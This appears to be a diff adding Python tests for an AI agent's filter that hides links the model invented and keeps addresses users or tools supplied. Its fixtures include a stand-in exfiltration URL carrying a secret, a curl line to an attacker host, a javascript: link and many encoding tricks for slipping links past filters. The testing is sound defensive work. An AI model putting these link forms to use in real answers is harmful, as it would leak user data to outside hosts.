@@ -1,0 +1,174 @@
+"""Which addresses of an answer are links, by what people named and by what the model was given word for word."""
+
+from datetime import UTC, datetime
+
+import pytest
+
+from core.context.message_text import link_rule
+from core.domain.answer_links import LinkGate, LinkRule, hide_links, hide_links_of_reply, shows_link
+from core.domain.messages import Message, MessageType
+from core.domain.sources import Origin, Source, Sources, dump_sources, offer_addresses
+from core.domain.targets import parse_names
+from core.domain.threads import Reply
+
+NOW = datetime(2026, 1, 31, 12, tzinfo=UTC)
+EVIL = "https://evil.example/?d=secret"
+PAGE_TEXT = (
+    "See [the guide](https://guide.example/Foo_(bar)), https://list.example/a?b=1, (https://list.example/b). <"
+    'https://list.example/c>, {"url": "https://list.example/d"}, shop.example or mail help@shop.example.'
+)
+
+
+def sources(*origins: Origin) -> Sources:
+    read = frozenset(Source(kind, name, NOW) for kind, name in origins)
+    offered = offer_addresses(["https://found.example/page"]).offered
+    return Sources(read, parse_names("Compare docs.example.com with bob@example.com."), offered)
+
+
+PAGE: Origin = ("page", "https://visited.example/x?y=1")
+RULE = LinkRule(sources(PAGE), lambda: [PAGE_TEXT])
+
+LINKS = [
+    "[a](https://docs.example.com/any?thing=1)",
+    "https://docs.example.com/x, and <https://docs.example.com>.",
+    "**https://docs.example.com/x**",
+    "mailto:bob@example.com",
+    "[found](https://found.example/page)",
+    "https://found.example/page/",
+    "![visited](https://visited.example/x?y=1)",
+    "[the guide](https://guide.example/Foo_(bar)) (see https://guide.example/Foo_(bar))",
+    "https://list.example/a?b=1 https://list.example/b https://list.example/c https://list.example/d",
+    "shop.example, help@shop.example",
+    "<https://docs.example.com/x|Slack's own link>",
+    "[a][1]\n\n[1]: https://found.example/page",
+    "[a file](/workspace/report.csv) [a part](#part)",
+    "1. `https://evil.example`\n2. report.csv, e.g. main.py, src/main.py, wait...what, 3.14 and 10:30\n\n```\ncurl https://evil.example\n```\n",
+]
+HIDDEN = [
+    (f"[see]({EVIL})", f"see (`{EVIL}`)"),
+    (f"![see]({EVIL})", f"see (`{EVIL}`)"),
+    (f"[]({EVIL})", f"link (`{EVIL}`)"),
+    (f"Look ({EVIL}), now.", f"Look (`{EVIL}`), now."),
+    (f"<{EVIL}>", f"link (`{EVIL}`)"),
+    (f"<{EVIL}|see>", f"see (`{EVIL}`)"),
+    (f"[`code`]({EVIL})", f"`code` (`{EVIL}`)"),
+    (f"`code`{EVIL}", f"`code` `{EVIL}`"),
+    (f"{EVIL}/`code`/x", f"`{EVIL}/'code'/x`"),
+    (f"[{EVIL}](https://found.example/page)", "link (`https://found.example/page`)"),
+    (f"[a][1]\n\n[1]: {EVIL}", f"[a][1]\n\n\\[1]: `{EVIL}`"),
+    ("ask secret.evil.example", "ask `secret.evil.example`"),
+    ("in secret.evil.md or evil.md/secret", "in `secret.evil.md` or `evil.md/secret`"),
+    ("mail secret@evil.example", "mail `secret@evil.example`"),
+    ("https://found.example/page?d=secret", "`https://found.example/page?d=secret`"),
+    ("https://found.example/page#secret", "`https://found.example/page#secret`"),
+    ("https://found.example/%70age", "`https://found.example/%70age`"),
+    ("https://list.example/b)secret", "`https://list.example/b)secret`"),
+    ("https://list.example/b[secret", "`https://list.example/b`[secret"),
+    ("https://docs.example.com@evil.example/", "`https://docs.example.com@evil.example/`"),
+    ("https://docs.example.com/?u=https://evil.example/s", "`https://docs.example.com/?u=https://evil.example/s`"),
+    (f"| a |\n|---|\n| [x]({EVIL}) |", f"| a |\n|---|\n| x (`{EVIL}`) |"),
+    ("[x](javascript:alert(1))", "x (`javascript:alert(1)`)"),
+    (f"~~~\n{EVIL}\n~~~", f"\\~\\~\\~\n`{EVIL}`\n\\~\\~\\~"),
+]
+TRICKS = [
+    f"[a\nb]({EVIL})",
+    "[a](https:\\/\\/evil.example/s)",
+    "[a](&#104;ttps://evil.example/s)",
+    "[a](https&colon;//evil.example/s)",
+    "[a]( <https://evil.example/a b> 'title')",
+    "[a](//evil.example/s)",
+    "[a](https:evil.example/s)",
+    f"[a[b]({EVIL})c](https://found.example/page)",
+    f"a `b\n\n`{EVIL}` ",
+    f"\\`{EVIL}\\`",
+    f"``{EVIL}`",
+    f"```\n{EVIL}",
+    f"````\n```\n{EVIL}\n````",
+    f"    {EVIL}",
+    f"> ```\n> {EVIL}",
+    f"[a]: {EVIL} 'x'\n[a]",
+    f"[a]:\n{EVIL}\n\n[a]",
+    f"{EVIL}\r{EVIL}\r\n{EVIL}",
+    "https\uff1a//evil.example/s",
+    "https://evil\u200b.example/s",
+    f"[x]({EVIL}){'y' * 100_000}",
+]
+
+
+@pytest.mark.parametrize("answer", LINKS)
+def test_what_people_named_and_what_was_given_word_for_word_stays_a_link(answer: str) -> None:
+    assert hide_links(answer, RULE) == answer
+
+
+@pytest.mark.parametrize(("answer", "shown"), HIDDEN)
+def test_an_address_of_the_models_own_making_is_shown_as_code(answer: str, shown: str) -> None:
+    assert hide_links(answer, RULE) == shown
+
+
+@pytest.mark.parametrize("answer", [*TRICKS, *(answer for answer, _ in HIDDEN)])
+def test_no_way_to_write_a_link_gets_through(answer: str) -> None:
+    shown = hide_links(answer, RULE)
+    assert shows_link(answer, RULE)
+    assert len(shown) > 100_000 or not shows_link(shown, RULE)
+    assert hide_links(shown, RULE) == shown
+
+
+@pytest.mark.parametrize("size", [1, 3, 7, 1000])
+@pytest.mark.parametrize("answer", [*LINKS, *TRICKS[:-1], *(answer for answer, _ in HIDDEN)])
+def test_nothing_is_shown_before_it_is_judged(answer: str, size: int) -> None:
+    text = f"First some words. {answer}\nAnd more words.\n"
+    gate = LinkGate(RULE)
+    passed = "".join(gate.feed(text[at : at + size]) for at in range(0, len(text), size))
+    assert not shows_link(passed, RULE)
+    whole, rest = gate.close(text)
+    assert whole == hide_links(text, RULE)
+    assert rest is None or passed + rest == whole
+    if answer in LINKS[:-1]:
+        assert passed == text
+
+
+def test_what_waited_before_a_call_is_shown_when_the_call_begins() -> None:
+    gate = LinkGate(RULE)
+    assert gate.feed("I look at") + gate.flush() == "I look at"
+    assert gate.feed(" https://found.example/page ") == ""
+    assert gate.close("I look at https://found.example/page ")[1] == " https://found.example/page "
+    assert LinkGate(RULE).feed(EVIL) == ""
+
+
+def test_the_attached_addresses_and_the_options_of_a_reply_count_too() -> None:
+    reply = Reply(
+        kind="ask", text="Which?", attachments=("a.csv", EVIL, "https://found.example/page"), options=(EVIL, "No")
+    )
+    shown = hide_links_of_reply(reply, RULE)
+    assert shown.attachments == ("a.csv", "https://found.example/page")
+    assert shown.text == f"Which?\n`{EVIL}`"
+    assert shown.options == (f"`{EVIL}`", "No")
+
+
+@pytest.mark.parametrize(
+    ("kind", "origins", "is_link"),
+    [
+        ("user", (("person", "alice"),), True),
+        ("user", (("chat", ""),), True),
+        ("tool", (PAGE,), True),
+        ("tool", (), False),  # a command that prints an address, or a file that the agent has written
+        ("tool", (("internet", ""),), False),
+        ("tool", (PAGE, ("internet", "")), False),
+        ("tool", (("browser", "http://localhost:8000/"),), False),
+        ("assistant", (), False),
+        ("summary", (PAGE,), False),
+    ],
+)  # fmt: skip
+def test_an_address_counts_as_given_where_the_model_could_not_write_it(
+    kind: MessageType, origins: tuple[Origin, ...], is_link: bool
+) -> None:
+    message = Message(
+        type=kind,
+        content={"role": "user", "content": f"It is {EVIL}."},
+        is_llm_message=True,
+        thread_id="t",
+        metadata={"sources": dump_sources(sources(*origins))},
+    )
+    rule = link_rule([message], sources(PAGE))
+    assert rule.allows_link(EVIL) is is_link
+    assert not rule.allows_link(f"{EVIL}s")
